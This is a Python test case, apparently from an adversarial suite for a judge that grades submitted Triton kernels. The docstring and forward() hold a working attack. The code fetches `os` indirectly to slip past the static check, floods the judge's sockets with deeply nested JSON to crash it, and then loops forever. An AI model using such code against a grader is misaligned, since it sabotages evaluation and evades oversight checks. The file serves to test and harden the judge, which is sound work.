"""Exploit: crash the judge with a header it cannot parse. The channel's reader caps a header at
8 MiB and turns unreadable JSON (ValueError) into a ProtocolError, but deeply nested JSON - 200,000
"[" in a row - makes json.loads raise RecursionError, which is neither. Written with os.write to
every socket fd from 3 to 30 during the first call, then the process spins. `os` comes from
dict(inspect.getmembers(torch)) - `inspect` being a global the CPU Triton interpreter puts into
the module after the first launch - so no forbidden name is in the source and the static check
passes it. If the exception
escapes the judge, judge_files raises and every verdict of the batch is lost (a cheap way to make
a whole tuning run fail). The point is that the judge returns a verdict (crash). Since kernels are
rebuilt in globals of their own (kernels/interpreter_rewrite.py), `inspect` never reaches the module:
NameError (raised).
"""
# expect: static=crash|static runtime=crash|raised

from __future__ import annotations

import torch
import triton
import triton.language as tl


@triton.jit
def _noop(x_ptr, n, BLOCK: tl.constexpr):
    offs = tl.arange(0, BLOCK)
    tl.load(x_ptr + offs, mask=offs < n, other=0.0)


def forward(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    _noop[(1,)](x, 1, BLOCK=16)
    os = dict(inspect.getmembers(torch))["os"]  # noqa: F821  (a global the interpreter added)
    body = b"[" * 200_000
    frame = len(body).to_bytes(4, "big") + body
    for fd in range(3, 31):
        try:
            if (os.fstat(fd).st_mode & 0o170000) == 0o140000:
                os.write(fd, frame)
        except OSError:
            pass
    spins = 0
    while True:
        spins += 1
